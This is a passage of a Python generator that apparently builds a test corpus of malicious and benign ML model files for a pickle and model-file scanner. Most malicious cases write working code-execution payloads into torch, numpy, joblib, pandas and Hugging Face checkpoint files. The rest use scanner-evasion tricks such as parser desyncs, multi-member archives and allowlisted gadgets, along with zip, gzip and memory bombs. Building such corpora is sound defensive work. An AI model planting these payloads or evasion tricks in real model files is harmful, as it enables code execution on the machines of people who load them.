    "legacy torch tar layout (sys_info/pickle/storages/tensors), payload in 'pickle'",
)
def _legacy_tar_pickle(ctx: _Ctx, n: str) -> Path:
    data = _legacy_tar(_inner_pickle(ctx, n), pickle.dumps([], protocol=2))
    return _write(ctx.mal / f"{n}.pt", data)


@_mal(
    "torch-legacy-tar-storages",
    "legacy torch tar layout, payload in the storage-views pickle of 'storages'",
)
def _legacy_tar_storages(ctx: _Ctx, n: str) -> Path:
    data = _legacy_tar(_legacy_benign_pickle(), _inner_pickle(ctx, n))
    return _write(ctx.mal / f"{n}.pt", data)


@_mal(
    "nn-module-forward-hook",
    "whole nn.Linear saved with a forward hook functools.partial(os.system, cmd)",
)
def _forward_hook(ctx: _Ctx, n: str) -> Path:
    import functools

    torch = _torch()
    m = torch.nn.Linear(2, 2)
    m.register_forward_hook(functools.partial(os.system, ctx.cmd(n)))
    return _write(ctx.mal / f"{n}.pt", _torch_bytes(m))


# ---------------------------------------------------------------------------------------
# Malicious: numpy, joblib, sklearn, pandas.


def _object_array(ctx: _Ctx, n: str) -> Any:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = 1.5
    arr[1] = _evil(ctx, n)
    return arr


@_mal("npy-object-array", ".npy object array whose pickle holds a payload")
def _npy(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    path = ctx.mal / f"{n}.npy"
    np.save(path, _object_array(ctx, n), allow_pickle=True)
    return path


@_mal("npz-object-array", ".npz with a numeric array and a malicious object array")
def _npz(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    path = ctx.mal / f"{n}.npz"
    np.savez(path, w=np.arange(4.0), meta=_object_array(ctx, n))
    return path


@_mal("npz-compressed-object-array", "compressed .npz (deflate) holding a malicious object array")
def _npz_c(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    path = ctx.mal / f"{n}.npz"
    np.savez_compressed(path, w=np.arange(4.0), meta=_object_array(ctx, n))
    return path


def _joblib_evil(ctx: _Ctx, n: str) -> dict[str, Any]:
    import numpy as np

    return {"coef": np.arange(6.0).reshape(2, 3), "hook": _evil(ctx, n)}


def _joblib_case(name: str, compress: Any, label: str) -> None:
    @_mal(name, f"joblib.dump of a malicious object, {label}")
    def build(ctx: _Ctx, n: str) -> Path:
        import joblib

        path = ctx.mal / f"{n}.joblib"
        joblib.dump(_joblib_evil(ctx, n), path, compress=compress)
        return path


_joblib_case("joblib-plain", 0, "uncompressed (arrays inline after the pickle)")
_joblib_case("joblib-zlib", ("zlib", 3), "zlib-compressed")
_joblib_case("joblib-gzip", ("gzip", 3), "gzip-compressed")
_joblib_case("joblib-bz2", ("bz2", 3), "bz2-compressed")
_joblib_case("joblib-lzma", ("lzma", 3), "lzma-alone compressed")
_joblib_case("joblib-xz", ("xz", 3), "xz-compressed")
_joblib_case("joblib-lz4", ("lz4", 3), "lz4-frame compressed")


@_mal(
    "sklearn-pipeline-evil-step",
    "joblib dump of a fitted sklearn Pipeline with a poisoned extra attribute",
)
def _sk_evil(ctx: _Ctx, n: str) -> Path:
    import joblib

    pipe = copy.deepcopy(_sk_models(ctx)["pipeline"])
    pipe.memory_hook = _evil(ctx, n)
    path = ctx.mal / f"{n}.joblib"
    joblib.dump(pipe, path)
    return path


@_mal("pandas-dataframe-attrs-payload", "pandas DataFrame.to_pickle with a payload in df.attrs")
def _pd_evil(ctx: _Ctx, n: str) -> Path:
    df = _dataframe()
    df.attrs["provenance"] = _evil(ctx, n)
    path = ctx.mal / f"{n}.pkl"
    df.to_pickle(path)
    return path


# ---------------------------------------------------------------------------------------
# Malicious: Hugging Face / trainer checkpoint folders, distributed checkpoints.


def _hf_poisoned(ctx: _Ctx, n: str, filename: str, obj: Any) -> Path:
    src = _trainer_checkpoint(ctx)["path"]
    dst = ctx.mal / n
    shutil.copytree(src, dst)
    (dst / filename).unlink()
    _write(dst / filename, _torch_bytes(obj))
    return dst


@_mal(
    "hf-trainer-optimizer-poisoned",
    "Trainer checkpoint folder whose optimizer.pt carries a payload",
)
def _hf_opt(ctx: _Ctx, n: str) -> Path:
    sd = copy.deepcopy(_trainer_checkpoint(ctx)["optimizer"])
    sd["param_groups"][0]["lr_hook"] = _Reduce(subprocess.Popen, ctx.argv(n))
    return _hf_poisoned(ctx, n, "optimizer.pt", sd)


@_mal(
    "hf-trainer-rng-state-poisoned",
    "Trainer checkpoint folder whose rng_state.pth carries a payload",
)
def _hf_rng(ctx: _Ctx, n: str) -> Path:
    state = dict(_trainer_checkpoint(ctx)["rng"])
    state["cpu"] = _evil(ctx, n)
    return _hf_poisoned(ctx, n, "rng_state.pth", state)


@_mal(
    "hf-trainer-training-args-poisoned",
    "Trainer checkpoint folder whose training_args.bin carries exec()",
)
def _hf_args(ctx: _Ctx, n: str) -> Path:
    import builtins

    args = copy.copy(_trainer_checkpoint(ctx)["args"])
    vars(args)["_callback"] = _Reduce(builtins.exec, ctx.pycode(n))
    return _hf_poisoned(ctx, n, "training_args.bin", args)


@_mal(
    "hf-trainer-scheduler-poisoned",
    "Trainer checkpoint folder whose scheduler.pt carries a payload",
)
def _hf_sched(ctx: _Ctx, n: str) -> Path:
    sd = dict(_trainer_checkpoint(ctx)["scheduler"])
    sd["lr_lambdas"] = [_evil(ctx, n)]
    return _hf_poisoned(ctx, n, "scheduler.pt", sd)


@_mal(
    "hf-bin-weights-poisoned",
    "HF model folder (config.json + pytorch_model.bin) whose weights file has a payload",
)
def _hf_bin_evil(ctx: _Ctx, n: str) -> Path:
    model = _gpt2(ctx)
    dst = ctx.mal / n
    dst.mkdir()
    model.config.to_json_file(dst / "config.json")
    sd = dict(model.state_dict())
    sd["_metadata_hook"] = _evil(ctx, n)
    _write(dst / "pytorch_model.bin", _torch_bytes(sd))
    return dst


@_mal(
    "hf-bin-raw-pickle",
    "HF model folder whose pytorch_model.bin is a raw malicious pickle, not a zip",
)
def _hf_bin_raw(ctx: _Ctx, n: str) -> Path:
    dst = ctx.mal / n
    dst.mkdir()
    _gpt2(ctx).config.to_json_file(dst / "config.json")
    _write(dst / "pytorch_model.bin", _inner_pickle(ctx, n))
    return dst


@_mal(
    "dcp-metadata-poisoned",
    "torch.distributed.checkpoint folder whose .metadata is a malicious raw pickle",
)
def _dcp_evil(ctx: _Ctx, n: str) -> Path:
    src = _dcp_folder(ctx)
    dst = ctx.mal / n
    shutil.copytree(src, dst)
    (dst / ".metadata").unlink()
    payload = {"state_dict_metadata": {}, "planner_data": _evil(ctx, n)}
    _write(dst / ".metadata", pickle.dumps(payload, protocol=2))
    return dst


# ---------------------------------------------------------------------------------------
# Malicious: nested containers, renamed files.


@_mal("gzip-wrapped-pickle", "gzip file wrapping a malicious pickle")
def _gz(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.mal / f"{n}.pkl.gz", gzip.compress(_inner_pickle(ctx, n), mtime=0))


@_mal("bz2-wrapped-torch-zip", "bz2 file wrapping a malicious torch zip")
def _bz(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.mal / f"{n}.pt.bz2", bz2.compress(_torch_evil_bytes(ctx, n)))


@_mal("zip-wrapped-pickle", "plain zip holding model.pkl (malicious pickle)")
def _zip_wrap(ctx: _Ctx, n: str) -> Path:
    return _write(
        ctx.mal / f"{n}.zip",
        _rezip([("model/model.pkl", _inner_pickle(ctx, n))], zipfile.ZIP_DEFLATED),
    )


def _tar_bytes(entries: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_577_836_800
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@_mal("tar-wrapped-pickle", "plain tar holding a malicious pickle")
def _tar_wrap(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.mal / f"{n}.tar", _tar_bytes([("ckpt/model.pkl", _inner_pickle(ctx, n))]))


@_mal("targz-wrapped-torch-zip", "tar.gz holding a malicious torch zip")
def _targz(ctx: _Ctx, n: str) -> Path:
    return _write(
        ctx.mal / f"{n}.tar.gz", _tar_bytes([("ckpt/model.pt", _torch_evil_bytes(ctx, n))], "w:gz")
    )


@_mal("zip-in-zip-torch", "zip holding a zip holding a malicious torch zip")
def _zip_zip(ctx: _Ctx, n: str) -> Path:
    inner = _rezip([("model.pt", _torch_evil_bytes(ctx, n))])
    return _write(ctx.mal / f"{n}.zip", _rezip([("bundle.zip", inner)], zipfile.ZIP_DEFLATED))


@_mal("7z-wrapped-torch", "7z archive holding a malicious torch file (nullifAI)")
def _sevenzip(ctx: _Ctx, n: str) -> Path:
    import py7zr

    src = _write(ctx.scratch / f"{n}-model.pt", _torch_evil_bytes(ctx, n))
    path = ctx.mal / f"{n}.7z"
    with py7zr.SevenZipFile(path, "w") as archive:
        archive.write(src, "model.pt")
    return path


# ---------------------------------------------------------------------------------------
# Malicious: parser desyncs (the scanner and the real loader read different bytes) and
# gadgets hidden behind allowlisted callables.


def _no_proto_pickle(ctx: _Ctx, n: str) -> bytes:
    """STACK_GLOBAL + REDUCE with no PROTO opcode: pickle.load accepts it; it starts with 'X'."""
    return _checked(
        _s("posix", 1) + _s("system", 1) + b"\x93" + _t(_s(ctx.cmd(n), 1)) + b"R" + STOP
    )


@_mal(
    "raw-pickle-without-proto",
    "raw pickle with no PROTO opcode, starting with BINUNICODE (torch.load runs it)",
)
def _no_proto_raw(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.mal / f"{n}.pt", _no_proto_pickle(ctx, n))


@_mal(
    "gzip-pickle-without-proto",
    "gzip (joblib.load) of a pickle with no PROTO opcode starting with BINUNICODE",
)
def _no_proto_gz(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.mal / f"{n}.joblib", gzip.compress(_no_proto_pickle(ctx, n), mtime=0))


def _joblib_raw_evil(ctx: _Ctx, n: str) -> tuple[bytes, int]:
    """An uncompressed joblib pickle with a payload, and the offset where the payload starts."""
    import joblib

    buf = io.BytesIO()
    joblib.dump(_joblib_evil(ctx, n), buf)
    data = buf.getvalue()
    return data, data.index(b"posix")


def _multi_member(name: str, compress: Callable[[bytes], bytes], label: str) -> None:
    @_mal(name, f"joblib file as two concatenated {label} members; the payload is in the second")
    def build(ctx: _Ctx, n: str) -> Path:
        data, cut = _joblib_raw_evil(ctx, n)
        return _write(
            ctx.mal / f"{n}.joblib", compress(data[: cut - 8]) + compress(data[cut - 8 :])
        )


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    return lz4.frame.compress(data)  # type: ignore[no-any-return]


_multi_member("joblib-bz2-multistream", bz2.compress, "bz2")
_multi_member("joblib-xz-multistream", lzma.compress, "xz")
_multi_member("joblib-lz4-multiframe", _lz4, "lz4")


@_mal(
    "gzip-multimember-pickle",
    "pickle.load(gzip.open(...)) of two concatenated gzip members; the payload is in the second",
)
def _gzip_multi(ctx: _Ctx, n: str) -> Path:
    data = pickle.dumps({"weights": [0.5] * 64, "hook": _evil(ctx, n)}, protocol=2)
    cut = data.index(b"posix") - 8
    parts = gzip.compress(data[:cut], mtime=0) + gzip.compress(data[cut:], mtime=0)
    assert gzip.decompress(parts) == data
    return _write(ctx.mal / f"{n}.pkl.gz", parts)


def _wrapper_head(dtype: bytes, shape: int) -> bytes:
    """{'a': NumpyArrayWrapper with BUILD state}, up to and including the wrapper's BUILD."""
    state = _dct(
        _s("subclass", 4),
        _sg("numpy", "ndarray"),
        _s("shape", 4),
        _t(b"K" + bytes([shape])),
        _s("order", 4),
        _s("C", 4),
        _s("dtype", 4),
        dtype,
        _s("allow_mmap", 4),
        b"\x88",
    )
    wrapper = _sg("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    return _p(4) + b"}" + _s("a", 4) + wrapper


@_mal(
    "joblib-dtype-itemsize-desync",
    "joblib array dtype 'float64': 64 bytes/item by its digits, 8 for joblib; payload in between",
)
def _joblib_desync_digits(ctx: _Ctx, n: str) -> Path:
    items = 2
    dtype = _r(_sg("numpy", "dtype"), _s("float64", 4), b"\x89", b"\x88")
    dtype += (
        _t(b"K\x03", _s("<", 4), b"NNN", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"K\x00")
        + b"b"
    )
    head = _wrapper_head(dtype, items)
    payload = _r(_g("posix", "system"), _s(ctx.cmd(n), 4)) + b"0"
    # joblib resumes after 8*items array bytes; a scanner trusting the digits after 64*items,
    # inside the BINBYTES filler, where it finds SETITEM + STOP and stops looking.
    gap = 64 * items - 8 * items - len(payload) - 5
    filler = b"\x00" * gap + b"s." + b"\xff" * 8
    body = struct.pack("<2d", 1.0, 2.0) + payload + _b(filler) + b"0s" + STOP
    return _write(ctx.mal / f"{n}.joblib", head + body)


@_mal(
    "joblib-object-dtype-desync",
    "joblib array dtype '|O8' without dtype state: an object array (unpickled) read as raw bytes",
)
def _joblib_desync_object(ctx: _Ctx, n: str) -> Path:
    core = _p(2) + _r(_g("posix", "system"), _s(ctx.cmd(n))) + b"0"
    pad = -(len(core) + 6 + 2) % 8
    inner = core + b"X" + struct.pack("<I", pad) + b"x" * pad + b"0N."
    assert len(inner) % 8 == 0
    dtype = _r(_sg("numpy", "dtype"), _s("|O8", 4), b"\x89", b"\x88")
    head = _wrapper_head(dtype, len(inner) // 8)
    return _write(ctx.mal / f"{n}.joblib", head + _checked(inner) + b"s" + STOP)


def _npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    text = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    text += " " * (-(10 + len(text) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin-1")


def _npy_descr_case(name: str, descr: str) -> None:
    @_mal(name, f".npy whose descr {descr!r} is an object dtype numpy.load unpickles")
    def build(ctx: _Ctx, n: str) -> Path:
        return _write(ctx.mal / f"{n}.npy", _npy_header(descr, (1,)) + _inner_pickle(ctx, n))


_npy_descr_case("npy-descr-object-word", "object")
_npy_descr_case("npy-descr-structured-string", "i4,O")
_npy_descr_case("npy-descr-subarray-string", "(2,)O")


@_mal(
    "npz-lzma-member-object-array",
    ".npz whose object-array member is LZMA-compressed (zipfile and numpy.load read it)",
)
def _npz_lzma(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, _object_array(ctx, n), allow_pickle=True)
    return _write(ctx.mal / f"{n}.npz", _rezip([("meta.npy", buf.getvalue())], zipfile.ZIP_LZMA))


@_mal(
    "numpy-randomstate-ctor-gadget",
    "allowlisted numpy.random._pickle.__randomstate_ctor calls its 2nd argument (a stdlib gadget)",
)
def _randomstate_gadget(ctx: _Ctx, n: str) -> Path:
    fn = _g("numpy.random._pickle", "__randomstate_ctor")
    data = _p(2) + _r(fn, _s(ctx.cmd(n)), _g("_osx_support", "_read_output")) + STOP
    return _write(ctx.mal / f"{n}.pkl", _checked(data))


@_mal(
    "allowlisted-call-memory-bomb",
    "only allowlisted calls: builtins.list(builtins.range(10**12)) exhausts memory at load",
)
def _memory_bomb(ctx: _Ctx, n: str) -> Path:
    huge = b"\x8a\x06" + (10**12).to_bytes(6, "little")
    data = _p(2) + _r(_g("__builtin__", "list"), _r(_g("__builtin__", "xrange"), huge)) + STOP
    return _write(ctx.mal / f"{n}.pkl", _checked(data))


@_mal(
    "p2-py2-commands-getoutput",
    "protocol 2 Python-2 module name commands.getoutput (mapped to subprocess)",
)
def _py2_commands(ctx: _Ctx, n: str) -> Path:
    data = _p(2) + _r(_g("commands", "getoutput"), _s(ctx.cmd(n))) + STOP
    return _write(ctx.mal / f"{n}.pkl", _checked(data))


@_mal(
    "import-side-effect-antigravity",
    "GLOBAL of a module whose import has side effects (antigravity opens a browser)",
)
def _antigravity(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.mal / f"{n}.pkl", _checked(_p(2) + _g("antigravity", "geohash") + STOP))


# ---------------------------------------------------------------------------------------
# Malicious: hostile headers, bombs, limits.


def _safetensors_raw(
    header: dict[str, Any] | bytes, buffer: bytes, length: int | None = None
) -> bytes:
    import json

    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    n = len(text) if length is None else length
    return struct.pack("<Q", n) + text + buffer


@_mal("safetensors-header-2pow62", "safetensors header length 2**62 (memory exhaustion)")
def _st_huge(ctx: _Ctx, n: str) -> Path:
    data = _safetensors_raw(
        {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\x00" * 8, 1 << 62
    )
    return _write(ctx.mal / f"{n}.safetensors", data)


@_mal("safetensors-overlapping-offsets", "safetensors tensors whose byte ranges overlap")
def _st_overlap(ctx: _Ctx, n: str) -> Path:
    header = {
        "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
    }
    return _write(ctx.mal / f"{n}.safetensors", _safetensors_raw(header, b"\x00" * 24))


@_mal("safetensors-out-of-bounds", "safetensors offsets far past the end of the file")
def _st_oob(ctx: _Ctx, n: str) -> Path:
    header = {"a": {"dtype": "F32", "shape": [1 << 38], "data_offsets": [0, 1 << 40]}}
    return _write(ctx.mal / f"{n}.safetensors", _safetensors_raw(header, b"\x00" * 16))


def _zeros_deflated(size: int) -> tuple[bytes, int]:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    out = [comp.compress(chunk) for _ in range(size >> 20)]
    out.append(comp.flush())
    crc = 0
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    return b"".join(out), crc


_BOMB = 96 << 20


def _zip_with_bomb(path: Path, payload: bytes | None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open("weights.bin", "w", force_zip64=True) as fh:
            chunk = bytes(1 << 20)
            for _ in range(_BOMB >> 20):
                fh.write(chunk)
        if payload is not None:
            zf.writestr("model.pkl", payload)
    return path


@_mal(
    "zip-bomb",
    "zip member inflating 96 MiB of zeros from ~100 KB (error acceptable)",
    ERROR_OR_FLAGGED,
)
def _zip_bomb(ctx: _Ctx, n: str) -> Path:
    return _zip_with_bomb(ctx.mal / f"{n}.zip", None)


@_mal(
    "zip-bomb-then-payload", "zip: a 96 MiB bomb member first, a malicious pickle member after it"
)
def _zip_bomb_payload(ctx: _Ctx, n: str) -> Path:
    return _zip_with_bomb(ctx.mal / f"{n}.zip", _inner_pickle(ctx, n))


@_mal("gzip-bomb", "gzip inflating 96 MiB of zeros (error acceptable)", ERROR_OR_FLAGGED)
def _gzip_bomb(ctx: _Ctx, n: str) -> Path:
    body, _crc = _zeros_deflated(_BOMB)
    trailer = struct.pack("<II", _crc & 0xFFFFFFFF, _BOMB & 0xFFFFFFFF)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return _write(ctx.mal / f"{n}.pkl.gz", header + body + trailer)


@_mal(
    "zip-declared-huge-member",
    "zip member whose directory declares 3 GiB (error acceptable)",
    ERROR_OR_FLAGGED,
)
def _zip_declared(ctx: _Ctx, n: str) -> Path:
    data = bytearray(_rezip([("model.pkl", _inner_pickle(ctx, n))], zipfile.ZIP_DEFLATED))
    cen = _central_entries(bytes(data))["model.pkl"]
    data[cen + 24 : cen + 28] = struct.pack("<I", 3 << 30)
    return _write(ctx.mal / f"{n}.zip", bytes(data))


@_mal(
    "nesting-depth-bomb",
    "malicious pickle inside 12 nested zips (error acceptable)",
    ERROR_OR_FLAGGED,
)
def _nesting(ctx: _Ctx, n: str) -> Path:
    data = _inner_pickle(ctx, n)
    name = "model.pkl"
    for level in range(12):
        data = _rezip([(name, data)])
        name = f"level{level}.zip"
    return _write(ctx.mal / f"{n}.zip", data)


# ---------------------------------------------------------------------------------------
# Benign: torch.


def _nets() -> dict[str, Any]:
    torch = _torch()
    nn = torch.nn

    class TinyGPT(nn.Module):
        def __init__(
            self, vocab: int = 50, dim: int = 16, heads: int = 2, ctx_len: int = 8
        ) -> None:
            super().__init__()
            self.tok = nn.Embedding(vocab, dim)
            self.pos = nn.Embedding(ctx_len, dim)
            layer = nn.TransformerEncoderLayer(dim, heads, 2 * dim, dropout=0.0, batch_first=True)
            self.blocks = nn.TransformerEncoder(layer, 2, enable_nested_tensor=False)
            self.ln = nn.LayerNorm(dim)
            self.head = nn.Linear(dim, vocab, bias=False)
            self.head.weight = self.tok.weight

    class EmbAttn(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.emb = nn.Embedding(30, 16)
            self.attn = nn.MultiheadAttention(16, 2, batch_first=True)
            self.out = nn.Linear(16, 3)

    torch.manual_seed(0)
    return {
        "mlp": nn.Sequential(nn.Linear(8, 16), nn.GELU(), nn.Dropout(0.1), nn.Linear(16, 4)),
        "cnn": nn.Sequential(
            nn.Conv2d(3, 4, 3),
            nn.BatchNorm2d(4),
            nn.ReLU(),
            nn.MaxPool2d(2),
            nn.Flatten(),
            nn.Linear(4 * 3 * 3, 10),
        ),
        "lstm": nn.LSTM(8, 16, num_layers=2, batch_first=True),
        "gru": nn.GRU(8, 16, bidirectional=True),
        "transformer": nn.Transformer(16, 2, 1, 1, 32, dropout=0.0),
        "emb-attn": EmbAttn(),
        "tiny-gpt": TinyGPT(),
        "transformer-encoder": nn.TransformerEncoder(
            nn.TransformerEncoderLayer(16, 2, 32), 2, enable_nested_tensor=False
        ),
    }


def _net(ctx: _Ctx, key: str) -> Any:
    return ctx.cached("nets", _nets)[key]


def _state_dict_case(key: str, label: str) -> None:
    @_ben(f"torch-state-dict-{key}", f"torch.save(state_dict) of {label}")
    def build(ctx: _Ctx, n: str) -> Path:
        return _write(ctx.ben / f"{n}.pt", _torch_bytes(_net(ctx, key).state_dict()))


_state_dict_case("mlp", "an MLP (Linear/GELU/Dropout)")
_state_dict_case("cnn", "a CNN (Conv2d/BatchNorm2d/MaxPool)")
_state_dict_case("lstm", "a 2-layer LSTM")
_state_dict_case("gru", "a bidirectional GRU")
_state_dict_case("transformer", "nn.Transformer")
_state_dict_case("emb-attn", "Embedding + MultiheadAttention")
_state_dict_case("tiny-gpt", "a tiny GPT built from nn modules (tied embeddings)")


def _module_case(key: str, label: str, **kw: Any) -> None:
    suffix = f"-p{kw['pickle_protocol']}" if "pickle_protocol" in kw else ""

    @_ben(
        f"torch-whole-module-{key}{suffix}",
        f"torch.save(model) of a whole {label} (torch.nn classes only){suffix}",
    )
    def build(ctx: _Ctx, n: str) -> Path:
        return _write(ctx.ben / f"{n}.pt", _torch_bytes(_net(ctx, key), **kw))


_module_case("mlp", "nn.Sequential MLP")
_module_case("cnn", "nn.Sequential CNN with BatchNorm")
_module_case("lstm", "nn.LSTM")
_module_case("transformer", "nn.Transformer")
_module_case("transformer-encoder", "nn.TransformerEncoder")
_module_case("mlp", "nn.Sequential MLP", pickle_protocol=4)


def _optimizers(ctx: _Ctx) -> dict[str, Any]:
    def make() -> dict[str, Any]:
        torch = _torch()
        torch.manual_seed(0)
        out: dict[str, Any] = {}
        makers = {
            "sgd-momentum": lambda p: torch.optim.SGD(p, lr=0.1, momentum=0.9, nesterov=True),
            "adam": lambda p: torch.optim.Adam(p, lr=1e-3),
            "adamw-amsgrad": lambda p: torch.optim.AdamW(
                p, lr=1e-3, weight_decay=0.01, amsgrad=True
            ),
        }
        for key, mk in makers.items():
            model = torch.nn.Linear(4, 2)
            opt = mk(model.parameters())
            for _ in range(2):
                opt.zero_grad()
                model(torch.randn(3, 4)).sum().backward()
                opt.step()
            out[key] = opt.state_dict()
        return out

    return ctx.cached("optimizers", make)  # type: ignore[no-any-return]


def _opt_case(key: str, label: str) -> None:
    @_ben(f"torch-optimizer-{key}", f"optimizer state_dict: {label}")
    def build(ctx: _Ctx, n: str) -> Path:
        return _write(ctx.ben / f"{n}.pt", _torch_bytes(_optimizers(ctx)[key]))


_opt_case("sgd-momentum", "SGD with Nesterov momentum")
_opt_case("adam", "Adam")
_opt_case("adamw-amsgrad", "AdamW with amsgrad")


def _sched_state(key: str) -> dict[str, Any]:
    torch = _torch()
    sch = torch.optim.lr_scheduler
    opt = torch.optim.SGD(torch.nn.Linear(2, 2).parameters(), lr=0.1, momentum=0.9)
    scheduler = {
        "steplr": lambda: sch.StepLR(opt, step_size=2, gamma=0.5),
        "cosine": lambda: sch.CosineAnnealingLR(opt, T_max=10),
        "onecycle": lambda: sch.OneCycleLR(opt, max_lr=0.1, total_steps=10),
        "lambdalr": lambda: sch.LambdaLR(opt, lambda step: 0.95**step),
    }[key]()
    for _ in range(3):
        opt.step()
        scheduler.step()
    return scheduler.state_dict()  # type: ignore[no-any-return]


def _sched_case(key: str, label: str) -> None:
    @_ben(f"torch-scheduler-{key}", f"LR scheduler state_dict: {label}")
    def build(ctx: _Ctx, n: str) -> Path:
        return _write(ctx.ben / f"{n}.pt", _torch_bytes(_sched_state(key)))


_sched_case("steplr", "StepLR")
_sched_case("cosine", "CosineAnnealingLR")
_sched_case("onecycle", "OneCycleLR")
_sched_case("lambdalr", "LambdaLR (lambda dropped by state_dict)")


@_ben("torch-grad-scaler", "torch.amp.GradScaler state_dict (scaler.pt)")
def _scaler(ctx: _Ctx, n: str) -> Path:
    scaler = _torch().amp.GradScaler("cpu")
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(scaler.state_dict()))


def _checkpoint_dict(ctx: _Ctx) -> dict[str, Any]:
    import argparse
    import datetime

    args = argparse.Namespace(
        lr=3e-4,
        batch_size=32,
        data_dir=Path("/data/imagenet"),
        out=Path("runs/exp1"),
        amp=True,
        tags=["a", "b"],
    )
    return {
        "epoch": 7,
        "global_step": 1234,
        "model": _net(ctx, "mlp").state_dict(),
        "optimizer": _optimizers(ctx)["adam"],
        "scheduler": _sched_state("cosine"),
        "args": args,
        "best_metric": 0.8125,
        "saved_at": datetime.datetime(2025, 1, 2, 3, 4, 5),
    }


@_ben(
    "torch-checkpoint-dict",
    "checkpoint dict: epoch/step/model/optimizer/scheduler/argparse.Namespace/pathlib/datetime",
)
def _ckpt(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(_checkpoint_dict(ctx)))


@_ben("torch-checkpoint-dict-p2", "checkpoint dict saved with pickle_protocol=2 explicitly")
def _ckpt2(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(_checkpoint_dict(ctx), pickle_protocol=2))


@_ben(
    "torch-checkpoint-dict-p4",
    "checkpoint dict saved with pickle_protocol=4 (FRAME, STACK_GLOBAL, MEMOIZE)",
)
def _ckpt4(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(_checkpoint_dict(ctx), pickle_protocol=4))


@_ben("torch-legacy-state-dict", "legacy non-zip torch.save of a state_dict")
def _legacy_sd(ctx: _Ctx, n: str) -> Path:
    data = _torch_bytes(_net(ctx, "cnn").state_dict(), _use_new_zipfile_serialization=False)
    return _write(ctx.ben / f"{n}.pt", data)


@_ben("torch-tensor-dtypes", "tensors of bf16/fp16/fp64/int8/uint8/int64/bool/complex64")
def _dtypes(ctx: _Ctx, n: str) -> Path:
    torch = _torch()
    base = torch.arange(6, dtype=torch.float32).reshape(2, 3)
    tensors = {
        "bf16": base.bfloat16(),
        "fp16": base.half(),
        "fp64": base.double(),
        "int8": base.to(torch.int8),
        "uint8": base.to(torch.uint8),
        "int64": base.long(),
        "bool": base > 2,
        "complex64": torch.complex(base, base),
        "param": torch.nn.Parameter(base.clone()),
        "view": base[:, 1:],
    }
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(tensors))


@_ben("torch-sparse-coo", "sparse COO tensor")
def _sparse(ctx: _Ctx, n: str) -> Path:
    torch = _torch()
    t = torch.eye(4).to_sparse()
    return _write(ctx.ben / f"{n}.pt", _torch_bytes({"adj": t}))


@_ben("torch-sparse-csr", "sparse CSR tensor")
def _sparse_csr(ctx: _Ctx, n: str) -> Path:
    torch = _torch()
    return _write(ctx.ben / f"{n}.pt", _torch_bytes({"adj": torch.eye(4).to_sparse_csr()}))


def _rng_state() -> dict[str, Any]:
    import numpy as np

    torch = _torch()
    random.seed(0)
    np.random.seed(0)
    torch.manual_seed(0)
    return {
        "python": random.getstate(),
        "numpy": np.random.get_state(),
        "cpu": torch.get_rng_state(),
    }


@_ben("torch-rng-state", "rng state: random.getstate, numpy.random.get_state, torch.get_rng_state")
def _rng(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.ben / f"{n}.pth", _torch_bytes(_rng_state()))


@_ben(
    "torch-numpy-generator", "checkpoint with numpy Generator/RandomState objects and numpy scalars"
)
def _np_gen(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    obj = {
        "gen": np.random.default_rng(0),
        "legacy": np.random.RandomState(0),
        "best": np.float64(0.5),
        "count": np.int64(3),
        "hist": np.arange(5, dtype=np.float32),
    }
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(obj))


# ---------------------------------------------------------------------------------------
# Benign: Hugging Face.


def _gpt2(ctx: _Ctx) -> Any:
    def make() -> Any:
        import transformers

        transformers.utils.logging.set_verbosity_error()
        transformers.utils.logging.disable_progress_bar()
        torch = _torch()
        torch.manual_seed(0)
        cfg = transformers.GPT2Config(
            n_layer=1,
            n_embd=32,
            n_head=2,
            vocab_size=100,
            n_positions=64,
            bos_token_id=0,
            eos_token_id=0,
        )
        return transformers.GPT2LMHeadModel(cfg)

    return ctx.cached("gpt2", make)


_CHAT_TEMPLATE = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content']"
    " + '<|im_end|>' + '\\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


